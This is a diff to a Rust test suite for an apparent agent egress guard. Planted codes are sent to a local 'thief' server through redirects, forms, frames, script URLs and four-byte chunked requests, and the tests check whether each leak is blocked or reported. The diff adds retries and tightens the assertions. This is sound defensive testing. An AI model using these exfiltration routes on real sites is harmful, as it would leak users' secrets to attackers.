@@ -30,11 +30,11 @@ const SOURCES: [(&str, &str, &str); 10] = [
 
 /// Ways out.
 const SINKS: [&str; 11] = [
-    "address", "label", "download", "form", "frame", "keys", "redirect", "script", "led on",
+    "address", "label", "download", "form", "frame", "keys", "redirect", "script", "own form",
     "pieces", "decimals",
 ];
 
-/// A code of its own for each flow: what the thief has once is no secret any more.
+/// A code of its own for each flow: what the thief already has is not secret any more.
 fn code(source: usize, sink: usize) -> String {
     format!("QXV{source}-7731-{}-KFT", 9400 + 20 * source + sink)
 }
@@ -108,8 +108,8 @@ fn sends(server: &Server, sink: &str, code: &str) -> Vec<Step> {
             steps
         }
         "redirect" => vec![goto(&server.url(BANK, &format!("/redirect?{}", collect(code))))],
-        "script" => vec![goto(&server.url(BANK, &format!("/go?{}", collect(code))))],
-        "led on" => vec![goto(&server.url(BANK, "/own")), fill(code), click()],
+        "script" => vec![goto(&server.url(BANK, &format!("/go?{code}")))],
+        "own form" => vec![goto(&server.url(BANK, "/own")), fill(code), click()],
         "pieces" => {
             let parts = code.as_bytes().chunks(4).map(String::from_utf8_lossy);
             parts.map(|part| goto(&collect(&part))).collect()
@@ -161,10 +161,21 @@ fn through(caller: &Caller, server: &Server) -> Outcome {
             let read: String = read.collect();
             assert!(read.contains(&code), "{source} reads nothing: {read}");
             server.take("");
-            let steps = sends(server, sink, &code);
-            let told = steps.iter().filter(|step| caller.run(step).printed.contains("egress"));
-            let is_told = told.count() > 0;
-            if has(&server.take(THIEF), sink, &code) {
+            let (mut is_told, mut leaks) = (false, false);
+            // On a busy machine a frame may come too late for the click into it.
+            for _ in 0..ATTEMPTS {
+                let steps = sends(server, sink, &code);
+                let told = steps.iter().filter(|step| {
+                    let printed = caller.run(step).printed;
+                    printed.contains("egress") || printed.contains("(rule `")
+                });
+                is_told |= told.count() > 0;
+                leaks |= has(&server.take(THIEF), sink, &code);
+                if is_told || leaks {
+                    break;
+                }
+            }
+            if leaks {
                 outcome.leaks.push(format!("{source} by {sink}"));
                 if !is_told {
                     outcome.silent.push(format!("{source} by {sink}"));
@@ -177,8 +188,8 @@ fn through(caller: &Caller, server: &Server) -> Outcome {
 
 const ALL: usize = SOURCES.len() * SINKS.len();
 
-/// Of a busy machine a frame may come too late for the click into it.
-const MOST: usize = ALL - SOURCES.len() / 2;
+/// How often a way out is tried that neither arrives nor is reported.
+const ATTEMPTS: usize = 3;
 
 #[test]
 fn a_paired_agent_leaks_nothing() {
@@ -193,7 +204,7 @@ fn an_owner_is_told_of_each_leak() {
     let outcome = through(&Caller::owner(""), &server);
     assert_eq!(outcome.silent, [] as [&str; 0]);
     let leaks = outcome.leaks.len();
-    assert!(leaks >= MOST, "an owner is told, and not stopped: {leaks} of {ALL}");
+    assert_eq!(leaks, ALL, "an owner is told, and not stopped: {:?}", outcome.leaks);
 }
 
 #[test]
@@ -203,7 +214,7 @@ fn all_flows_leak_when_the_guard_is_off() {
     for (caller, of) in [(Caller::owner("off"), 0), (Caller::paired("off", &server), SOURCES.len())]
     {
         let leaks = through(&caller, &server).leaks;
-        assert!(leaks.len() >= MOST - of, "{} of {ALL}: {leaks:?}", leaks.len());
+        assert_eq!(leaks.len(), ALL - of, "{leaks:?}");
     }
 }
 
@@ -214,7 +225,8 @@ fn a_skill_leaks_to_no_host_that_its_manifest_leaves_out() {
     for at in 0..SOURCES.len() {
         for (number, sink) in SINKS.into_iter().enumerate() {
             flows.push(reads(&server, at, number));
-            flows.push(sends(&server, sink, &code(at, number)));
+            let attempts = if sink == "frame" { ATTEMPTS } else { 1 };
+            flows.extend((0..attempts).map(|_| sends(&server, sink, &code(at, number))));
         }
     }
     let host = |host: &str| format!("{host}:{}", server.port());
@@ -233,5 +245,5 @@ fn a_skill_leaks_to_no_host_that_its_manifest_leaves_out() {
     }
     let kept: Vec<_> =
         leaks.iter().filter(|(way, leaks)| !**leaks && !way.ends_with("label")).collect();
-    assert!(kept.len() <= ALL - MOST, "{kept:?}");
+    assert!(kept.is_empty(), "{kept:?}");
 }
